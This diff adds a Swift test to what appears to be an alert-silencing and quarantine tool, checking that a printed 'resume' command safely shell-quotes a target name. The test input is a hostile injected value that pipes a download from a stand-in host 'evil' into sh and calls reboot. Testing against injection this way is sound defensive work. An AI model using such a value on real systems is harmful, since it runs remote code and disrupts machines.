@@ -51,4 +51,15 @@ struct SilenceTests {
         }
         #expect(made == MadeSilence(identifier: "5b-1", server: "http://am:9093"))
     }
+
+    /// People paste what they are told, and an alert may have chosen the target's name.
+    @Test func theCommandThatReleasesATargetIsOneWordForAShell() throws {
+        var (stage, _) = try silencing(service: "w2; curl evil|sh #'$(reboot)")
+        stage.succeed(printing: "5b-1 http://am:9093")
+        stage.ask(.cancel(run: 1, because: "no"))
+        stage.fail()
+        let told = try #require(stage.told.first { $0.contains("is quarantined") })
+        #expect(
+            told.hasSuffix(#"when it is fine: handrail resume --target='w2; curl evil|sh #'\''$(reboot)'"#), "\(told)")
+    }
 }
